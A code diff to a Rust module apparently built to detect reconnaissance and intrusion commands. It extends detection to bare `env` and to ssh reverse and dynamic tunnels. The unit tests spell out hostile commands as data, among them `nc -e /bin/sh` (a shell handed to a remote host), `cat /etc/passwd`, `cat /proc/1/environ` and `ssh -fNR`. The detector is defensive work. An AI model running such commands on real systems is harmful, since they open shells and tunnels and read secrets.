@@ -113,14 +113,30 @@ pub fn is_reconnaissance(command: &str, args: &[String]) -> bool {
     let secret = |arg: &String| {
         arg.starts_with('/') && SECRETS.iter().any(|secret| arg == secret || arg.ends_with(secret))
     };
-    RECONNAISSANCE.contains(&command) && !ASKED_BY_RUNTIMES.iter().any(|form| asked(&form))
+    // With a program, `env` runs that.
+    let environment = command == "env" && args.is_empty();
+    environment
+        || RECONNAISSANCE.contains(&command) && !ASKED_BY_RUNTIMES.iter().any(|form| asked(&form))
         || args.iter().any(secret)
 }
 
-/// Whether a program brings an intruder in or on. To ask whether a port is open (`nc -z`) does not.
+/// Whether a program brings an intruder in or on. To ask whether a port is open (`nc -z`) does not; to let others in
+/// behind it, or all through it, does (`ssh -R`, `-D`, `-w`).
 pub fn is_intrusion(command: &str, args: &[String]) -> bool {
-    let asks = |arg: &String| arg.starts_with('-') && !arg.starts_with("--") && arg.contains('z');
-    INTRUSION.contains(&name(command)) && !args.iter().any(asks)
+    // Letters of options, up to the first that takes a file or a word of its own.
+    let has = |wanted: &[char]| {
+        args.iter().any(|arg| {
+            let letters = arg.strip_prefix('-').unwrap_or_default();
+            letters
+                .chars()
+                .take_while(|c| c.is_alphabetic() && !"oiFlp".contains(*c))
+                .any(|c| wanted.contains(&c))
+        })
+    };
+    match name(command) {
+        "ssh" => has(&['R', 'D', 'w']),
+        command => INTRUSION.contains(&command) && !has(&['z']),
+    }
 }
 
 /// The form in which Python's `multiprocessing`, and what is made after it (`billiard`, `loky`, `multiprocess`),
@@ -256,11 +272,15 @@ mod tests {
         assert!(!is_reconnaissance("/sbin/ip", &args(&["link"])));
         assert!(is_reconnaissance("ip", &args(&["addr"])));
         assert!(!is_reconnaissance("id", &args(&["-u"])));
+        assert!(is_reconnaissance("env", &[]));
+        assert!(!is_reconnaissance("env", &args(&["x"])));
         assert!(is_reconnaissance("cat", &args(&["/etc/passwd"])));
         assert!(is_reconnaissance("cat", &args(&["/proc/1/environ"])));
         assert!(!is_reconnaissance("convert", &[]));
         assert!(is_intrusion("/bin/nc", &args(&["-e", "/bin/sh", "h", "1"])));
         assert!(!is_intrusion("nc", &args(&["-vz", "h", "1"])));
+        assert!(is_intrusion("ssh", &args(&["-fNR", "1:h:2", "x"])));
+        assert!(!is_intrusion("ssh", &args(&["-i/srv/KeyR", "-oControlPersist=no", "x", "ls -R"])));
     }
 
     #[test]
